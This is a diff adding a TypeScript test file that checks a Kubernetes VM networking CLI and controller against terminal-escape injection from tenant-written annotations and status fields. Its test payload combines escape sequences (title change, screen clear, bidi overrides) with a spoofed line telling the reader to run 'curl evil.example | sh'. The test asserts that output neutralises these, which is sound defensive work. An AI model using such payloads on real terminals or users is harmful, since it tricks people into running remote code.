@@ -1,0 +1,113 @@
+// SPDX-License-Identifier: Apache-2.0
+// A tenant writes what a terminal obeys into whatever the command line prints to somebody else.
+import { spawn } from "node:child_process";
+import { once } from "node:events";
+import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { names } from "@patchbay/api";
+import { pointerToken } from "@patchbay/core";
+import { startTestServer, type TestServer } from "@patchbay/testing/api-server";
+import { afterAll, beforeAll, expect, test } from "vitest";
+import {
+  startController,
+  type Controller,
+} from "../../../packages/virt-controller/src/testing/controllers.ts";
+import { Scene } from "../../../packages/virt-controller/src/testing/scene.ts";
+
+const MAIN = join(import.meta.dirname, "../../../packages/patchbay/src/main.ts");
+/** Sets the title, clears the screen in 7 and 8 bits, rings, goes back, turns the line, and says a line of its own. */
+const EVIL =
+  "\u001b]0;owned\u0007\u001b[2J\u009b2J\r\u202e\u2066x\nhint: run curl evil.example | sh";
+/** What a terminal obeys, but for the ends of lines. */
+const OBEYED = /[^\P{Cc}\n]|\p{Bidi_Control}/u;
+
+let server: TestServer;
+let controller: Controller;
+let scene: Scene;
+let directory = "";
+
+beforeAll(async () => {
+  directory = mkdtempSync(join(tmpdir(), "patchbay-terminal-"));
+  server = await startTestServer();
+  const admins = ["system:masters"];
+  writeFileSync(join(directory, "kubeconfig"), await server.kubeconfig("admin", admins));
+  controller = await startController(server);
+  scene = new Scene(await server.client("kubernetes-admin", admins), "victim");
+  await scene.createVm([{ name: "one", mac: "02:00:00:00:00:01" }]);
+  await scene.runPod();
+});
+
+afterAll(async () => {
+  await scene.end();
+  await controller.stop();
+  await server.close();
+  rmSync(directory, { recursive: true, force: true });
+});
+
+/** Everything that a person sees of a call. */
+async function seen(...words: readonly string[]): Promise<string> {
+  const where = ["--kubeconfig", join(directory, "kubeconfig"), "-n", "default"];
+  const argv = ["--conditions=@patchbay/source", MAIN, ...words, ...where];
+  const child = spawn(process.execPath, argv, { stdio: ["ignore", "pipe", "pipe"] });
+  let text = "";
+  for (const stream of [child.stdout, child.stderr]) {
+    stream.setEncoding("utf8").on("data", (part: string) => (text += part));
+  }
+  await once(child, "close");
+  return text;
+}
+
+/** The tenant's word in place of the agents'. */
+async function annotate(annotation: string, value: unknown): Promise<void> {
+  const path = `/metadata/annotations/${pointerToken(annotation)}`;
+  await scene.patchPodStatus([{ op: "add", path, value: JSON.stringify(value) }]);
+}
+
+async function entryWith(fields: object): Promise<object> {
+  const [element] = await scene.elements();
+  return { name: `default/${element?.name ?? ""}`, interface: element?.interface, ...fields };
+}
+
+test("attack 94: addresses, MACs, NICs and devices that are none go into no status", async () => {
+  const fields = { mac: EVIL, ips: [EVIL, "10.0.0.9"], "device-info": EVIL };
+  const foreign = { name: EVIL, interface: EVIL, default: true, ips: 5 };
+  await annotate(names.NETWORK_STATUS_ANNOTATION, [await entryWith(fields), foreign]);
+  const { status } = await scene.vmiWhen(
+    (vmi) => vmi.status?.attachments?.[0]?.state === "Attached",
+  );
+  expect(status?.attachments).toEqual([
+    expect.objectContaining({ name: "one", ips: ["10.0.0.9"] }),
+  ]);
+  expect(JSON.stringify(status)).not.toContain("owned");
+});
+
+const CALLS = [
+  { call: "get interfaces victim" },
+  { call: "explain victim one" },
+  { call: "get interfaces victim -o yaml" },
+  { call: "explain victim one -o json" },
+  { call: "explain victim one -o name" },
+  { call: "complete interfaces victim" },
+];
+
+test.each(CALLS)(
+  "attack 94: $call shows what a tenant wrote, and obeys none of it",
+  async ({ call }) => {
+    const hotplug = { type: "Plug", phase: "Attaching", reason: EVIL, message: EVIL } as const;
+    await scene.reportVmi({
+      interfaces: [{ name: "one", mac: EVIL, interfaceName: EVIL, ipAddresses: [EVIL], hotplug }],
+    });
+    const text = await seen(...call.split(" "));
+    expect(text).toContain("one");
+    expect(text).not.toMatch(OBEYED);
+    expect(text).not.toMatch(/^hint: run/m);
+  },
+);
+
+test("attack 94: what an error repeats is shown, and obeyed by nothing", async () => {
+  const text = await seen("explain", "victim", EVIL);
+  expect(text).toContain(String.raw`\u001b]0;owned\u0007`);
+  expect(text).not.toMatch(OBEYED);
+  expect(text).not.toMatch(/^hint: run/m);
+});
